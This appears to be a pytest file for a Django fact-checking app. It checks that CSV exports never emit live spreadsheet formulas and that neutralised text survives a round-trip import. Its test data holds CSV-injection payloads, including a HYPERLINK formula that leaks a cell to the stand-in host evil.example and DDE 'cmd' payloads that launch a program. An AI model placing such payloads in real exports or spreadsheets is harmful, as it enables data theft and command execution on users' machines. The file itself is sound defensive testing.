"""No export path ever hands a spreadsheet a live formula, whatever the desk stored.

Every text field holds a formula in one of the forms spreadsheets run; every export path
is read back with the csv module and each cell checked on its own, by a rule written here
independently of factcheck/csvio/safety.py.
"""

import csv
import io
import re

import pytest
from django.core.management import call_command
from django.urls import reverse

from companies.models import Company
from factcheck.csvio.safety import unneutralise
from factcheck.models import Article, Claim, Source
from tests.factories import PublishedClaimFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",  # already quoted once by someone: must not come out as a formula after import
]
NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def is_live_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula trigger first, and not a plain number.

    A cell starting with spaces is text to Excel and to LibreOffice's default import (see
    docs/SECURITY.md, "Residual risks"), so it is not counted here.
    """
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not NUMBER.fullmatch(cell)


@pytest.fixture
def formula_desk():
    """One published claim per formula, with the formula in every text field it can go in."""
    claims = []
    for n, formula in enumerate(FORMULAS):
        company = Company.objects.create(name=f"{formula} co {n}", slug=f"formula-co-{n}")
        article = Article.objects.create(title=formula, slug=f"formula-{n}", author=formula)
        claim = PublishedClaimFactory(
            company=company,
            article=article,
            quote=formula,
            note=formula,
            period=formula[:40],
            unit="USD",
            value=-5,  # as written, "-$5": a formula to a spreadsheet
        )
        Source.objects.filter(claim=claim).update(title=formula, publisher=formula)
        # Codes a form would refuse, as a raw database write could leave them; they reach
        # `unit`, `qualifier`, `language` and the figure as written (`-5 =cmd…`).
        Claim.objects.filter(pk=claim.pk).update(
            unit=formula[:20], qualifier=formula[:8], language=formula[:8]
        )
        claims.append(claim)
    return claims


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_live_formula(text: str, claims):
    found = cells(text)
    for claim in claims:
        assert any(claim.quote in cell for cell in found), "the claim was not exported"
    live = [cell for cell in found if is_live_formula(cell)]
    assert live == []


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8")


def test_the_public_csv(client, formula_desk):
    assert_no_live_formula(body(client.get(reverse("factcheck:claims-csv"))), formula_desk)


def test_the_export_command(formula_desk, tmp_path):
    out = io.StringIO()
    call_command("export_claims", stdout=out)
    assert_no_live_formula(out.getvalue(), formula_desk)
    call_command("export_claims", "-o", str(tmp_path / "claims.csv"), "--published")
    with open(tmp_path / "claims.csv", encoding="utf-8", newline="") as exported:
        assert_no_live_formula(exported.read(), formula_desk)


def test_the_admin_export_view_and_action(client, publisher, formula_desk):
    client.force_login(publisher)
    view = client.post(reverse("admin:factcheck_claim_export"), {"format": "0"})
    assert_no_live_formula(body(view), formula_desk)
    action = client.post(
        reverse("admin:factcheck_claim_changelist"),
        {
            "action": "export_admin_action",
            "format": "0",
            "_selected_action": [c.pk for c in formula_desk],
        },
    )
    assert_no_live_formula(body(action), formula_desk)


def test_the_new_columns_carry_the_formulas(formula_desk):
    """The desk above does put formulas in as_written, unit, qualifier and language."""
    out = io.StringIO()
    call_command("export_claims", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for name in ("as_written", "unit", "qualifier", "language"):
        assert any(unneutralise(row[name]) != row[name] for row in rows), name


def test_the_checker_itself_recognises_each_formula():
    assert all(is_live_formula(formula) for formula in FORMULAS if not formula.startswith("'"))
    assert not is_live_formula("-12.5") and not is_live_formula("'=1+1")


def test_export_then_import_gives_back_the_exact_text(formula_desk):
    """Neutralising is undone on import: the desk's words survive the round trip."""
    out = io.StringIO()
    call_command("export_claims", stdout=out)
    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff")))}
    for claim in formula_desk:
        assert unneutralise(by_id[str(claim.pk)]["quote"]) == Claim.objects.get(pk=claim.pk).quote
